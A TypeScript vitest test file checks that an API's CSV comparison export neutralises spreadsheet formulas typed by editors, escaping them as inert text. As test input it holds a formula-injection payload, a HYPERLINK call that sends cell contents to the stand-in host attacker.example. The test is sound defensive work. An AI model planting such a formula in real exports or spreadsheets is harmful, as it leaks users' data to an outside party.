import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestPlatform } from './support/platform.ts';
import type { TestPlatform } from './support/platform.ts';

// What the API's CSV exports hold when opened in a spreadsheet.

let platform: TestPlatform;
beforeAll(async () => {
  platform = await startTestPlatform({ seeded: true, consumers: false });
  // A free-text dimension, as a migration may add one: its values are whatever editors type.
  await platform.databases.bySubgraph.procedures!.query(`INSERT INTO procedures.dimensions (key, label, description, topic, value_type)
    VALUES ('escalation_contact', 'Escalation contact', 'Who is called when a post needs action.', 'MONITORING', 'TEXT')`);
});
afterAll(async () => {
  await platform?.stop();
});

const ok = async (query: string, variables: Record<string, unknown>, as: string) => {
  const r = await platform.query<any>(query, variables, as);
  expect(r.errors).toBeUndefined();
  return r.data;
};

describe('compareProcedures.csv', () => {
  it('exports a value an editor typed as a formula as inert text', async () => {
    const formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")';
    const { procedure } = await ok('{ procedure(id: "proc-es-ct-monitoring") { version } }', {}, 'demo-manager-es');
    const draft = await ok(`mutation($id: ID!, $v: Int!, $values: [DimensionValueInput!]!) {
      setDimensionValues(id: $id, expectedVersion: $v, values: $values) { version } }`,
    { id: 'proc-es-ct-monitoring', v: procedure.version, values: [{ key: 'escalation_contact', value: formula }] }, 'demo-manager-es');
    await ok('mutation($id: ID!, $v: Int!) { publishProcedure(id: $id, expectedVersion: $v) { status } }',
      { id: 'proc-es-ct-monitoring', v: draft.setDimensionValues.version }, 'demo-manager-es');

    const { compareProcedures } = await ok('{ compareProcedures(topic: MONITORING, jurisdictions: ["ES-CT"], dimensions: ["escalation_contact"]) { csv } }', {}, 'demo-manager-es');
    expect(compareProcedures.csv).toBe(
      'dimension,ES-CT,divergent\r\n'
      + `Escalation contact,"'=HYPERLINK(""http://attacker.example/?leak=""&A1,""Open"")",No\r\n`,
    );
  });
});
